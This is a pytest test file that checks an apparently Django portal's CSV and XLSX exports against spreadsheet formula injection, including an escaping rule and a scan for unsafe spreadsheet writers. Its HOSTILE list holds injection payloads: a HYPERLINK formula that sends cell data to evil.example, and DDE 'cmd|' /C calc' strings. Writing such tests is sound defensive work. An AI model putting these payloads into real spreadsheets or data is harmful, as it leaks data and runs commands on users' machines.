"""Every XLSX and CSV the portal writes goes through `core.spreadsheets`: no cell is a formula.

Given a dataset whose every free-text column holds a formula (`=HYPERLINK(...)` as a child's last
name, `+SUM(...)` as a provider's name, …), imported through `import_dataset`, then each file
the portal makes from it: the invoice's lines (XLSX), the `bill` files (CSV), the report (XLSX)
and every admin export (CSV and XLSX). No cell may be a formula or start like one.
"""

import csv
import datetime
import io
import re
import shutil
from pathlib import Path

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.test import RequestFactory
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from core.spreadsheets import EXPORT_FORMATS, is_formula_like, safe_cell
from exchange.service import dataset_import
from exchange.specs import FILE_SPECS
from reports import services as report_services
from reports.models import VersionStatus
from tariffs.models import Invoice
from tests.exchange_files import SAMPLE, read_rows, write_rows
from tests.factories import head_of, officer

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A5,"Жуманов")',
    "+SUM(1;2)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)

# The free-text columns of the exchange files (everything else is an identifier, a code,
# a date or a number, checked on the way in).
TEXT_COLUMNS = {
    "providers": ("name", "license_number"),
    "tariffs": ("act",),
    "children": (
        "last_name",
        "first_name",
        "middle_name",
        "address",
        "representative_name",
        "representative_phone",
    ),
    "ipar": ("number",),
    "enrollments": ("decision_number",),
    "visits": ("visit_id",),
    "registry_health": ("organisation",),
    "registry_education": ("organisation",),
}
KEYS = {"number", "decision_number", "visit_id"}


def starts_like_a_formula(text: str) -> bool:
    """The test's own reading of OWASP's rule, independent of the writer's."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    stripped = text.lstrip(" \u00a0\u3000")
    if not stripped or stripped[0] not in "=+-@＝＋－＠":
        return False
    return not re.fullmatch(r"[+-]?\d+(\.\d+)?", stripped)


def _limit(name, column):
    parser = FILE_SPECS[name].column(column).parser
    return getattr(parser, "max_length", None) or 200


@pytest.fixture
def hostile_dataset(tmp_path):
    if not (SAMPLE / "children.csv").exists():
        pytest.skip(f"the sample dataset is not at {SAMPLE}")
    folder = tmp_path / "hostile"
    folder.mkdir()
    renamed_visits = {}
    for path in SAMPLE.glob("*.csv"):
        shutil.copyfile(path, folder / path.name)
    for name, columns in TEXT_COLUMNS.items():
        path = folder / f"{name}.csv"
        rows = read_rows(path)
        for number, row in enumerate(rows):
            for column in columns:
                if column.startswith("representative_") and not row["representative_iin"]:
                    continue
                limit = _limit(name, column)
                hostile = HOSTILE[(number + len(column)) % len(HOSTILE)]
                if column in KEYS:
                    suffix = f"#{number}"
                    value = hostile[: limit - len(suffix)] + suffix
                    if column == "visit_id":
                        renamed_visits[row[column]] = value
                else:
                    value = hostile[:limit]
                row[column] = value
        write_rows(path, rows)
    report = dataset_import(directory=folder)
    assert report.ok, [str(error) for error in report.errors[:5]]
    return folder


def check_cells(cells, where):
    """Every cell: no formula, nothing that starts like one; returns the texts seen."""
    texts = []
    for cell in cells:
        assert getattr(cell, "data_type", "s") != "f", (where, cell.coordinate, cell.value)
        value = getattr(cell, "value", cell)
        if isinstance(value, str):
            assert not starts_like_a_formula(value), (where, value)
            texts.append(value)
    return texts


def check_xlsx(content, where):
    book = load_workbook(io.BytesIO(content))  # not data_only: formulas would show as such
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            texts += check_cells(row, f"{where}/{sheet.title}")
    return texts


def check_csv(text, where):
    texts = []
    for row in csv.reader(io.StringIO(text)):
        texts += check_cells(row, where)
    return texts


def escaped(texts):
    """The hostile texts that came out, with their apostrophe."""
    return {text for text in texts if text.startswith("'") and starts_like_a_formula(text[1:])}


def test_the_writer_escapes_what_starts_like_a_formula_and_nothing_else():
    for text in (*HOSTILE, "\t=1+1", "\r=1+1", "=", "-A1", "+ 1"):
        assert is_formula_like(text), text
        assert safe_cell(text) == "'" + text
    for text in ("Жуманов", "'=already text", "-5", "+12.5", "13000", "a=b", "", "V-0000003"):
        assert not is_formula_like(text), text
        assert safe_cell(text) == text
    day = datetime.date(2026, 7, 4)
    for value in (None, 5, -5, 2.5, day, True):
        assert safe_cell(value) is value


def test_no_file_the_portal_writes_carries_a_formula(
    client, hostile_dataset, tmp_path, django_capture_on_commit_callbacks
):
    # bill: the three exchange files
    out = tmp_path / "bill"
    call_command("bill", month="2026-07", out=str(out))
    seen = []
    for name in ("invoices.csv", "invoice_lines.csv", "exclusions.csv"):
        seen += check_csv((out / name).read_text(encoding="utf-8"), name)
    assert escaped(seen), "the exclusions name hostile visit ids"

    # the invoice's lines, downloaded by the head
    invoice = Invoice.objects.exclude(amount_kzt=0).select_related("provider").first()
    client.force_login(head_of(invoice.provider))
    response = client.get(f"/invoices/{invoice.pk}/lines.xlsx")
    assert response.status_code == 200
    texts = check_xlsx(response.content, "lines.xlsx")
    assert "'" + invoice.provider.name in texts
    assert any(text.startswith("'") for text in texts[8:]), "the children's names"

    # the report of the half-year
    report = report_services.report_for_half(year=2026, half=2)
    with django_capture_on_commit_callbacks(execute=True):
        version = report_services.version_start(
            report=report, language="en", on=datetime.date(2026, 10, 1), acting_user=officer()
        )
    version.refresh_from_db()
    assert version.status == VersionStatus.DONE, version.error
    with version.xlsx.open("rb") as handle:
        texts = check_xlsx(handle.read(), "report.xlsx")
    assert escaped(texts), "the providers' names"

    # every admin export, in every format it offers
    request = RequestFactory().get("/admin/")
    request.user = officer()
    exporting = {
        model: model_admin
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    }
    assert len(exporting) >= 9
    for model, model_admin in exporting.items():
        formats = model_admin.get_export_formats()
        assert formats == EXPORT_FORMATS, model
        for file_format in formats:
            content = model_admin.get_export_data(
                file_format(), request, model.objects.all(), encoding="utf-8"
            )
            where = f"{model._meta.label} {file_format.__name__}"
            if file_format().is_binary():
                texts = check_xlsx(content, where)
            else:
                text = content.decode("utf-8") if isinstance(content, bytes) else content
                texts = check_csv(text, where)
            if model._meta.model_name in (
                "provider",
                "tariff",
                "child",
                "ipar",
                "enrollment",
                "visit",
                "healthstay",
                "educationcorrection",
            ):
                assert escaped(texts), where


# The one module that may write a spreadsheet; anything else imports it.
WRITER = "core/spreadsheets.py"
WRITING = re.compile(
    r"^\s*(from\s+openpyxl(\.[\w.]+)?\s+import\s+[^\n]*\bWorkbook\b"
    r"|from\s+openpyxl\.(writer|worksheet|cell)\b"
    r"|import\s+openpyxl\b"
    r"|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b"
    r"|from\s+tablib\b|import\s+tablib\b"
    r"|from\s+xlsxwriter\b|import\s+xlsxwriter\b)"
    r"|\bcsv\.(writer|DictWriter)\s*\("
    r"|\.export\(\)\.(csv|xlsx|tsv|ods|xls)\b"
    r"|\bEXPORT_FORMATS\s*=(?!\s*spreadsheets\.EXPORT_FORMATS)",
    re.MULTILINE,
)
# Reading is fine: the importer reads CSV and XLSX with openpyxl's `load_workbook`.
ALLOWED = {
    "exchange/reading.py": "reads the uploaded exchange files (load_workbook, csv.reader)",
}


def test_no_module_writes_a_spreadsheet_without_the_safe_writer():
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "node_modules/")) or "/migrations/" in relative:
            continue
        if relative == WRITER or relative in ALLOWED:
            continue
        for match in WRITING.finditer(path.read_text(encoding="utf-8")):
            offenders.append(f"{relative}: {match.group(0).strip()}")
    assert offenders == [], "write spreadsheets through core.spreadsheets"


def test_the_registry_test_would_catch_a_new_writer():
    for line in (
        "from openpyxl import Workbook",
        "    from openpyxl import load_workbook, Workbook",
        "import openpyxl",
        "writer = csv.writer(file)",
        "w = csv.DictWriter(f, fieldnames=x)",
        "content = resource.export().csv",
        "import tablib",
    ):
        assert WRITING.search(line), line
    assert not WRITING.search("records = csv.reader(io.StringIO(text))")
    assert not WRITING.search("    from openpyxl import load_workbook")
